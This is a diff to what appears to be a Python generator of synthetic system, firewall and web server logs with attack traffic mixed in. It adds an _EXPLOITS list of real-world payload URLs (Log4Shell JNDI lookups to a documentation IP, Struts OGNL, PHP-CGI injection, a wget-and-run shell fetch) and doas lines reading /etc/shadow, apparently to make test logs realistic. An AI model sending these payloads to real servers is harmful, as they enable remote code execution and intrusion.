@@ -157,7 +157,22 @@ _SCAN_URLS = ("/w00tw00t.at.ISC.SANS.DFind:)", "/nikto-test-4f3a2b.html", "/Ness
               "/nessus_is_probing_you_", "/index.php?q=acunetix_wvs_security_test")
 _FW_DROP = ("SuSE-FW-DROP-DEFAULT ", "SuSE-FW-DROP ", "[UFW BLOCK] ", "DROP:", "iptables-dropped: ",
             "IPTables-Dropped: ", "Shorewall:net2fw:DROP:", "SuSE-FW-ILLEGAL-TARGET ",
-            "SuSE-FW-UNAUTHORIZED-TARGET ", "nft drop in: ", "INPUT-DENY ")
+            "SuSE-FW-UNAUTHORIZED-TARGET ", "nft drop in: ", "INPUT-DENY ",
+            # ConfigServer Firewall's invalid packets and port floods.
+            "Firewall: *INVALID* ", "Firewall: *Port Flood* ")
+#: Exploits of the 2020s: Log4Shell (plain, obfuscated, encoded),
+#: Spring4Shell, PHP-CGI, PHPUnit, Struts' OGNL, ThinkPHP, GPON, a router's
+#: command injection.
+_EXPLOITS = (
+    "/?x=${jndi:ldap://198.51.100.9:1389/a}", "/?x=%24%7Bjndi%3Adns%3A%2F%2Fx.oast.fun%2Fa%7D",
+    "/?q=${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.9/x}",
+    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+    "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+    "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
+    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
+    "/GponForm/diag_Form?images/", "/shell?cd+/tmp;wget+http://198.51.100.9/x.sh;sh+x.sh",
+)
 _FW_REJECT = ("FINAL_REJECT: ", "SuSE-FW-REJECT ", "Shorewall:net2fw:REJECT:", "REJECT ",
               "[UFW REJECT] ")
 _FW_ACCEPT = ("SuSE-FW-ACCEPT ", "[UFW ALLOW] ", "ACCEPT-SSH: ", "Shorewall:net2fw:ACCEPT:")
@@ -455,6 +470,19 @@ def generate(n, seed=1, start=START, attackShare=0.1):
             sshd(), pick(("GET / HTTP/1.1", "\\026\\003\\001", "SSH-1.5-NmapNSE_1.0")), src(), port())
 
     def a_pam_failure():
+        if r() < 0.05:
+            # util-linux login's later wording; polkit's helper and daemon.
+            form = r()
+            if form < 0.4:
+                return "%sFAILED LOGIN SESSION FROM %s FOR %s, Authentication failure" % (
+                    head("login"), pick(("tty3", "ttyS0")), pick(_USERS))
+            if form < 0.7:
+                return "%spolkit-agent-helper-1: pam_authenticate failed: Authentication" \
+                       " failure" % head("polkit-agent-helper-1")
+            return "%sOperator of unix-session:%d FAILED to authenticate to gain authorization" \
+                   " for action org.freedesktop.systemd1.manage-units for system-bus-name::1.%d" \
+                   " [systemctl restart nginx] (owned by unix-user:%s)" % (
+                       head("polkitd"), rnd.randrange(1, 20), rnd.randrange(999), pick(_USERS))
         if r() < 0.1:
             return "%sFAILED LOGIN %s FROM %s FOR %s, Authentication failure" % (
                 head("login"), pick(("1", "(2)")), pick(("tty1", "pts/3")), pick(_USERS))
@@ -491,6 +519,9 @@ def generate(n, seed=1, start=START, attackShare=0.1):
 
     def a_sudo_failure():
         user = pick(_USERS[1:])
+        if r() < 0.1:
+            # doas (OpenBSD's; Alpine, Arch).
+            return "%sfailed auth for %s" % (head("doas"), user)
         return "%s%s%s : %s ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
             head("sudo", r() < 0.3), " " * rnd.randrange(1, 5), user,
             pick(("3 incorrect password attempts", "1 incorrect password attempt",
@@ -499,6 +530,9 @@ def generate(n, seed=1, start=START, attackShare=0.1):
 
     def a_sudo_unauthorised():
         user = pick(_USERS[1:])
+        if r() < 0.1:
+            return "%scommand not permitted for %s: %s" % (
+                head("doas"), user, pick(("cat /etc/shadow", "vi /etc/doas.conf")))
         return "%s%s%s : %s ; TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s" % (
             head("sudo", r() < 0.3), " " * rnd.randrange(1, 5), user,
             pick(("user NOT in sudoers", "command not allowed", "user NOT authorized on host")),
@@ -597,6 +631,8 @@ def generate(n, seed=1, start=START, attackShare=0.1):
         if r() < 0.15:
             return webError("File does not exist: /var/www/html/%s" % pick(
                 ("default.ida", "scripts/root.exe", "MSADC/root.exe", "c/winnt/system32/cmd.exe")))
+        if r() < 0.25:
+            return web(pick(_EXPLOITS), pick((404, 400, 200)), pick(("-",) + _AGENTS[:1]))
         return web(pick(_CODERED), pick((404, 400, 403)), pick(("-",) + _AGENTS[:1]))
 
     def a_web_traversal():
@@ -742,6 +778,10 @@ def generate(n, seed=1, start=START, attackShare=0.1):
                           "[%d] " % rnd.randrange(300, 65000) if r() < 0.5 else "")
 
     def a_mail_auth():
+        if r() < 0.04:
+            # OpenSMTPD.
+            return "%s%016x smtp %sauthentication user=%s@example.org result=permfail" % (
+                head("smtpd"), rnd.randrange(1 << 64), pick(("", "event=")), pick(_USERS))
         if r() < 0.05:
             # Dovecot 2.3.2x's auth worker.
             return "%sauth-worker(%s,%s)<%d><%s>: request [%d]: unix_user: pam_authenticate()" \
